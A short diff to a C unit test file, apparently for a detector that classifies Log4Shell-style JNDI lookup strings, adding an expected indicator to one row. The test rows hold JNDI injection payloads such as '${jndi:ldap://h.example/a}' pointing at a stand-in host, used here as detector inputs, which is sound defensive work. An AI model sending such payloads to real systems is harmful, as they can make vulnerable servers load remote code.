@@ -61,7 +61,7 @@ static void composed(void **state)
 static void truncated(void **state)
 {
     static const struct judge_row rows[] = {
-        ROW("${jndi:ldap://h.example/a", "attempt", .truncated = true, .certainty = "unknown", .traits = "truncated"),
+        ROW("${jndi:ldap://h.example/a", "attempt", .truncated = true, .certainty = "unknown", .traits = "truncated", .indicators = "ldap://h.example:389/a"),
         ROW("${jndi:LDAP://h.example/a}", "reach", .truncated = true, .certainty = "unknown", .traits = "truncated"),
         ROW(P, "exploit", .truncated = true, .traits = "truncated"),
         ROW("${user.name", "none", .truncated = true, .traits = "truncated"),
